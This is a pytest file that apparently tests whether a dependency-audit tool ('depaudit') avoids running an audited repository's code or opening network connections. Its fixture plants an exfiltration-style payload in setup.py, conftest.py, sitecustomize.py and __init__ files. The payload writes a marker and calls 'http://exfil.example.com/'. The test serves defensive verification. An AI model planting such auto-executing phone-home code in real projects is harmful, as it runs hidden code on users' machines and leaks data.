"""depaudit never executes an audited repository's code and never opens a network connection.

The repository's ``setup.py``, ``conftest.py``, ``__init__.py`` and ``sitecustomize.py``
would each write a marker file if run or imported. ``collect`` and ``check`` run in
subprocesses whose ``sitecustomize`` makes every connect / DNS lookup raise and record it.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from reliability_helpers import DEPAUDIT, GitRepo, run_depaudit

GUARD = """
import os, socket

_LOG = os.environ["DEPAUDIT_NET_LOG"]


def _refuse(what):
    def blocked(*args, **kwargs):
        with open(_LOG, "a") as fh:
            fh.write(f"{what} {args[:2]!r}\\n")
        raise OSError(f"network blocked by the test: {what}")
    return blocked


socket.socket.connect = _refuse("connect")
socket.socket.connect_ex = _refuse("connect_ex")
socket.socket.sendto = _refuse("sendto")
socket.getaddrinfo = _refuse("getaddrinfo")
socket.gethostbyname = _refuse("gethostbyname")
socket.create_connection = _refuse("create_connection")
"""


def payload(marker: Path, name: str) -> str:
    return (
        "import pathlib, urllib.request\n"
        f"pathlib.Path({str(marker)!r}).joinpath({name!r}).write_text('executed')\n"
        "urllib.request.urlopen('http://exfil.example.com/' + __name__)\n"
    )


@pytest.fixture
def booby_trapped(tmp_path: Path) -> tuple[GitRepo, Path]:
    markers = tmp_path / "markers"
    markers.mkdir()
    repo = GitRepo(tmp_path / "repo")
    repo.commit(
        "booby-trapped layout",
        {
            "setup.py": payload(markers, "setup.py")
            + "from setuptools import setup\nsetup(name='x')\n",
            "conftest.py": payload(markers, "conftest.py"),
            "sitecustomize.py": payload(markers, "sitecustomize.py"),
            "usercustomize.py": payload(markers, "usercustomize.py"),
            "serving/__init__.py": payload(markers, "serving__init__.py"),
            "serving/app.py": "from serving import model\nimport wandb\nwandb.init()\n",
            "serving/model.py": payload(markers, "model.py"),
            "serving/requirements.txt": "-e .\nfastapi==0.110.0\nwandb==0.16.0\n"
            "git+https://github.com/org/lib.git#egg=lib\n",
            "serving/Dockerfile": "FROM python:3.11-slim\nRUN pip install -e . && python setup.py install\n",
            "training/__init__.py": payload(markers, "training__init__.py"),
            "training/requirements.txt": "torch==2.1.0\nwandb==0.16.0\n",
            "training/config.yaml": "mlflow_uri: https://mlflow.internal.example.com\n",
            "pyproject.toml": "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n"
            "[project]\nname = 'trap'\nversion = '0'\ndependencies = ['numpy']\n",
        },
    )
    return repo, markers


def guarded_env(tmp_path: Path) -> tuple[dict[str, str], Path]:
    guard_dir = tmp_path / "guard"
    guard_dir.mkdir(exist_ok=True)
    (guard_dir / "sitecustomize.py").write_text(GUARD)
    log = tmp_path / "net.log"
    log.write_text("")
    env = {
        "PYTHONPATH": os.pathsep.join([str(guard_dir), os.environ.get("PYTHONPATH", "")]).strip(
            os.pathsep
        ),
        "DEPAUDIT_NET_LOG": str(log),
        "GIT_TERMINAL_PROMPT": "0",
    }
    return env, log


def test_guard_really_blocks_the_network(tmp_path: Path) -> None:
    """The test's own guard works: without it, this test proves nothing."""
    import subprocess
    import sys

    env, log = guarded_env(tmp_path)
    proc = subprocess.run(
        [sys.executable, "-c", "import socket; socket.getaddrinfo('example.com', 80)"],
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode != 0 and "network blocked" in proc.stderr
    assert "getaddrinfo" in log.read_text()


def test_collect_and_check_never_execute_or_connect(
    booby_trapped: tuple[GitRepo, Path], tmp_path: Path
) -> None:
    repo, markers = booby_trapped
    env, log = guarded_env(tmp_path)
    runs = [
        ("collect", str(repo.path), "--db", str(tmp_path / "s.db")),
        ("check", str(repo.path), "--fail-on", "never"),
        ("check", str(repo.path), "--rev", "HEAD", "--format", "json", "--fail-on", "never"),
        ("report", "--db", str(tmp_path / "s.db"), "--format", "sarif"),
    ]
    for args in runs:
        # run from inside the repository too: its sitecustomize.py / conftest.py sit in the cwd
        proc = run_depaudit(*args, env=env)
        assert proc.returncode == 0, (args, proc.stderr)
        assert "Traceback" not in proc.stderr
    import subprocess

    inside = subprocess.run(
        [
            DEPAUDIT,
            "check",
            ".",
            "--fail-on",
            "never",
            "-q",
        ],
        cwd=repo.path,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        check=False,
    )
    assert inside.returncode == 0, inside.stderr
    assert sorted(p.name for p in markers.iterdir()) == [], "repository code was executed"
    assert log.read_text() == "", f"network attempted: {log.read_text()}"
    # and the audit did read those files: the training-only tracker in serving is found
    assert (
        "wandb" in run_depaudit("check", str(repo.path), "--fail-on", "never", "-q", env=env).stdout
    )
